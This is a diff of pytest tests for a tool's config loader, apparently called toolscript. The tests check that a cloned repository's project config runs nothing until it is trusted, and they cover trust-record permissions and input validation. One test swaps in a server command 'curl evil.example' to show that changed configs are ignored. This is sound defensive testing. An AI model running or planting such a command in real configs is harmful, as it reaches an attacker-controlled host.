@@ -2,11 +2,13 @@
 
 from __future__ import annotations
 
+import stat
 from pathlib import Path
 
 import pytest
 
-from config import find_config, load_config, parse_config, validate_server_name
+from config import IgnoredProject, find_config, find_project_config, load_config, parse_config, validate_server_name
+from config_edit import revoke_project, trust_project
 from errors import ConfigError
 
 
@@ -22,18 +24,89 @@ STDIO = '[servers.{name}]\ncommand = "echo"\n'
 # -- location ------------------------------------------------------------------------
 
 
-def test_explicit_path_wins_over_everything(tmp_path: Path, isolated_env: Path) -> None:
+def test_explicit_path_wins_over_everything_and_is_used_alone(tmp_path: Path, isolated_env: Path) -> None:
     explicit = write(tmp_path / "a.toml", STDIO.format(name="explicit"))
     env_file = write(tmp_path / "b.toml", STDIO.format(name="fromenv"))
-    write(Path("toolscript.toml"), STDIO.format(name="cwd"))
+    project = write(Path("toolscript.toml"), STDIO.format(name="cwd"))
     write(isolated_env / "config.toml", STDIO.format(name="home"))
+    trust_project(project, project.read_bytes(), isolated_env)
     env = {"TOOLSCRIPT_CONFIG": str(env_file), "TOOLSCRIPT_HOME": str(isolated_env)}
     assert list(load_config(str(explicit), env).servers) == ["explicit"]
     assert list(load_config(None, env).servers) == ["fromenv"]
     del env["TOOLSCRIPT_CONFIG"]
-    assert list(load_config(None, env).servers) == ["cwd"]
+    assert list(load_config(None, env).servers) == ["home", "cwd"]  # the trusted project over the user's
     Path("toolscript.toml").unlink()
     assert list(load_config(None, env).servers) == ["home"]
+
+
+PROJECT = '[servers.both]\ncommand = "project-both"\n\n[servers.p]\nurl = "https://${NO_SUCH_V}.example/mcp"\n'
+
+
+def test_a_project_config_is_used_only_once_trusted_and_only_as_trusted(isolated_env: Path) -> None:
+    """A cloned repository's toolscript.toml runs nothing until trusted, and nothing changed after that."""
+    user = write(isolated_env / "config.toml", '[servers.both]\ncommand = "user-both"\n\n' + STDIO.format(name="u"))
+    project = write(Path("toolscript.toml"), PROJECT)
+    env = {"TOOLSCRIPT_HOME": str(isolated_env)}
+
+    untrusted = load_config(None, env)
+    assert untrusted.servers["both"].command == "user-both" and list(untrusted.servers) == ["both", "u"]
+    assert untrusted.unusable == {} and untrusted.sources == (user,)
+    assert untrusted.ignored_project == IgnoredProject(Path("toolscript.toml"), changed=False)
+
+    trust_project(project, project.read_bytes(), isolated_env)
+    trusted = load_config(None, env)
+    assert trusted.servers["both"].command == "project-both"  # a project server replaces the user's
+    assert list(trusted.servers) == ["u", "both"] and list(trusted.unusable) == ["p"]
+    assert trusted.sources == (user, Path("toolscript.toml")) and trusted.ignored_project is None
+    assert trusted.origins == {"u": user, "both": Path("toolscript.toml"), "p": Path("toolscript.toml")}
+
+    project.write_text(PROJECT.replace("project-both", "curl evil.example"), encoding="utf-8")
+    changed = load_config(None, env)
+    assert changed.servers["both"].command == "user-both"
+    assert changed.ignored_project == IgnoredProject(Path("toolscript.toml"), changed=True)
+
+    trust_project(project, project.read_bytes(), isolated_env)
+    assert load_config(None, env).servers["both"].command == "curl evil.example"
+    assert revoke_project(project, isolated_env) is True
+    assert load_config(None, env).ignored_project == IgnoredProject(Path("toolscript.toml"), changed=False)
+    assert revoke_project(project, isolated_env) is False
+
+
+def test_an_untrusted_project_config_is_not_parsed(isolated_env: Path) -> None:
+    write(Path("toolscript.toml"), "not [valid toml")  # a broken (or hostile) file must not stop anything
+    cfg = load_config(None, {"TOOLSCRIPT_HOME": str(isolated_env)})
+    assert cfg.servers == {} and cfg.ignored_project is not None
+
+
+def test_the_project_config_is_the_nearest_up_to_the_repository_root(tmp_path: Path) -> None:
+    repo = tmp_path / "repo"
+    (repo / ".git").mkdir(parents=True)
+    deep = repo / "a" / "b"
+    deep.mkdir(parents=True)
+    assert find_project_config(deep) is None
+    write(repo / "toolscript.toml", STDIO.format(name="root"))
+    assert find_project_config(deep) == repo / "toolscript.toml"
+    write(repo / "a" / "toolscript.toml", STDIO.format(name="a"))
+    assert find_project_config(deep) == repo / "a" / "toolscript.toml"
+    # Above the repository's root, nothing is looked for; outside a repository, only the directory itself.
+    write(tmp_path / "toolscript.toml", STDIO.format(name="above"))
+    assert find_project_config(repo) == repo / "toolscript.toml"
+    (repo / ".git").rmdir()
+    assert find_project_config(deep) is None
+    assert find_project_config(tmp_path) == tmp_path / "toolscript.toml"
+
+
+def test_a_trust_record_others_can_write_is_refused(isolated_env: Path) -> None:
+    project = write(Path("toolscript.toml"), STDIO.format(name="p"))
+    trust_project(project, project.read_bytes(), isolated_env)
+    record = isolated_env / "trusted-projects.toml"
+    assert stat.S_IMODE(record.stat().st_mode) == 0o600
+    record.chmod(0o666)
+    with pytest.raises(ConfigError) as info:
+        load_config(None, {"TOOLSCRIPT_HOME": str(isolated_env)})
+    assert str(info.value) == (
+        f"{record} is not a file only you can write; refusing to use it. Delete it and trust your projects again."
+    )
 
 
 def test_no_config_anywhere_means_zero_servers(isolated_env: Path) -> None:
@@ -61,6 +134,13 @@ def test_toml_syntax_error_names_file_and_line(tmp_path: Path) -> None:
     with pytest.raises(ConfigError) as info:
         load_config(str(path), {})
     assert str(info.value) == f"{path}: TOML syntax error at line 3, column 11: Invalid value"
+
+
+def test_a_deeply_nested_config_is_one_line(tmp_path: Path) -> None:
+    path = write(tmp_path / "deep.toml", "a = " + "[" * 100_000 + "]" * 100_000 + "\n")
+    with pytest.raises(ConfigError) as info:
+        load_config(str(path), {})
+    assert str(info.value) == f"{path}: values are nested too deeply to read."
 
 
 # -- substitution --------------------------------------------------------------------
@@ -167,6 +247,8 @@ def test_malformed_reference_is_an_error() -> None:
         ),
         ('[servers.a]\nurl = "https://x"\ntimeout = 0\n', "servers.a.timeout: must be a positive number of seconds"),
         ('[servers.a]\nurl = "https://x"\ntimeout = true\n', "servers.a.timeout: must be a positive number of seconds"),
+        ('[servers.a]\nurl = "https://x"\ntimeout = nan\n', "servers.a.timeout: must be a positive number of seconds"),
+        ('[servers.a]\nurl = "https://x"\ntimeout = inf\n', "servers.a.timeout: must be a positive number of seconds"),
         ('[servers.a]\nurl = "https://x"\ninclude_tools = [1]\n', "servers.a.include_tools: must be a list of strings"),
         ('[servers.a]\nurl = "https://x"\noauth = "yes"\n', "servers.a.oauth: must be a table"),
         (
